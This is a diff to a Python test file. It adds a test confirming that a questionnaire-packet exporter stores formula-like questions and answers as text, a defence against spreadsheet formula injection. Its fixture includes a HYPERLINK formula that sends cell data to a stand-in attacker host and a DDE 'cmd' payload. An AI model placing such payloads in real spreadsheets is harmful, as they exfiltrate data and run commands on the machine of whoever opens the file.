@@ -10,7 +10,7 @@ made (a row changed since is a conflict, never overwritten); the whole packet is
 anything is written; every refusal is one line (the packet, the row, the fix), never a traceback
 and never a server path in the app; a packet bomb is refused under the workbook limits.
 
-Every test here failed on the code before this change (218f249). Real SQLite, real workbooks;
+Every test here failed on the code before its change (218f249; the formula-like question: fc5380f). Real SQLite, real workbooks;
 the drafts come from ``TableDrafter`` (tests/unit/test_sections_drafting.py), a stated fake
 drafter: these tests are about the packet, not about generation; no model loads (the app's tests
 load the real embedder, as every screen test does)."""
@@ -382,3 +382,50 @@ def test_a_packet_bomb_is_refused_under_the_workbook_limits_in_bounded_time_and_
     assert run.within(BOMB_SECONDS, CLI_IMPORTS_MB), run
     assert decisions(folder) == before
     print(f"\nthe packet bomb refused: {run.cpu_seconds:.1f} s of CPU, {run.peak_mb:.0f} MB peak, {run.seconds:.1f} s")
+
+
+FORMULA_LIKE = [  # a customer's questions and a reviewer's answer that a spreadsheet would run
+    ("ENC-01", '=HYPERLINK("http://attacker.invalid/?"&A1,"Is customer data encrypted at rest?")'),
+    ("BCK-01", "-2+3 Are backups tested at least once a year?"),
+    ("INC-01", "@SUM(1) Are customers notified of a breach within 72 hours?"),
+]
+
+
+def test_a_question_or_an_answer_that_looks_like_a_formula_is_text_in_the_packet(tmp_path):
+    """The packet's question, draft, allowed values and hidden record are written as text: before,
+    ``ws.append`` stored a question starting with "=" as a formula (openpyxl's rule for such a
+    string), which Excel ran when the expert opened the packet. The packet then comes back and is
+    imported, its rows matched by their question text as written."""
+    book = openpyxl.Workbook()
+    sheet = book.active
+    sheet.append(["ID", "Question", "Answer"])
+    for row, (qid, text) in enumerate(FORMULA_LIKE, start=2):
+        sheet.cell(row, 1, qid)
+        sheet.cell(row, 2, text).data_type = "s"  # text in the customer's file, as they typed it
+    rule = openpyxl.worksheet.datavalidation.DataValidation(type="list", formula1='"Yes,No,=1+1"')
+    sheet.add_data_validation(rule)
+    rule.add("C2:C4")
+    book.save(tmp_path / "hostile.xlsx")
+    ws = Workspace(tmp_path / "workspace", Settings(reviewer="lead"))
+    project, q = ws.add_questionnaire("hostile.xlsx", (tmp_path / "hostile.xlsx").read_bytes())
+    draft_questionnaire(q, TableDrafter({}), ws.review_store, by="lead")
+    lead = Review(ws.review_store, project.id, q, by="lead")
+    enc = by_id(lead, "ENC-01")
+    lead.edit(enc.key, "=cmd|' /C calc'!A0", "=1+1", expected=enc.version)  # the reviewer's words, a choice
+    team.assign(lead, team.targets(lead, lead.items(), rows=["ENC-01", "BCK-01"]), "Ana")
+    path = tmp_path / "packet.xlsx"
+    path.write_bytes(packet_bytes(lead, "Ana"))
+
+    with zipfile.ZipFile(path) as zf:
+        formulas = [n for n in zf.namelist() if n.startswith("xl/worksheets/") and b"<f>" in zf.read(n)]
+    assert formulas == []  # no sheet of the packet holds a formula
+    wb = openpyxl.load_workbook(path)
+    assert [c.coordinate for s in wb for r in s.iter_rows() for c in r if c.data_type == "f"] == []
+    rows = {r[0].value: [c.value for c in r] for r in wb["Packet"].iter_rows(min_row=2)}
+    assert rows["ENC-01"][1:5] == [FORMULA_LIKE[0][1], "=1+1", "=cmd|' /C calc'!A0", "Yes, No, =1+1"]
+    assert rows["BCK-01"][1] == FORMULA_LIKE[1][1]
+    assert FORMULA_LIKE[0][1] in [c.value for r in wb["_packet"].iter_rows() for c in r]
+
+    fill(path, {"ENC-01": ("No", "Encrypted with AES-256.", None)})
+    done = apply_packet(lead, read_packet(path, lead))
+    assert len(done.decided) == 1 and by_id(lead, "ENC-01").answer == "Encrypted with AES-256."
